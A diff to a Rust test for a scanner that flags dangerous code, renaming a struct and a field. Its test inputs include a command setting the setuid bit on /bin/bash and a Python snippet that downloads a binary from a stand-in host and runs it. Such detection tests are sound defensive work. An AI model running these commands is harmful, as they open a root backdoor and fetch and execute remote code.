@@ -11,9 +11,9 @@ fn signs_are_seen_and_ordinary_code_is_not() {
         "os.chmod('/bin/bash', 0o4755)",
         "import requests\nopen('/tmp/m','wb').write(requests.get('http://x.test/m').content)\nsubprocess.Popen(['/tmp/m'])",
     ] {
-        let mut seen = Seen::default();
+        let mut seen = Dangers::default();
         look(text, &mut seen);
-        assert!(!seen.dangers.is_empty(), "{text}");
+        assert!(!seen.found.is_empty(), "{text}");
     }
     for text in [
         "m = pickle.loads(open('m.pkl', 'rb').read())",
@@ -23,8 +23,8 @@ fn signs_are_seen_and_ordinary_code_is_not() {
         "os.chmod('run.sh', 0o755)",
         "exec(open('setup_env.py').read())",
     ] {
-        let mut seen = Seen::default();
+        let mut seen = Dangers::default();
         look(text, &mut seen);
-        assert!(seen.dangers.is_empty(), "{text}: {:?}", seen.dangers);
+        assert!(seen.found.is_empty(), "{text}: {:?}", seen.found);
     }
 }
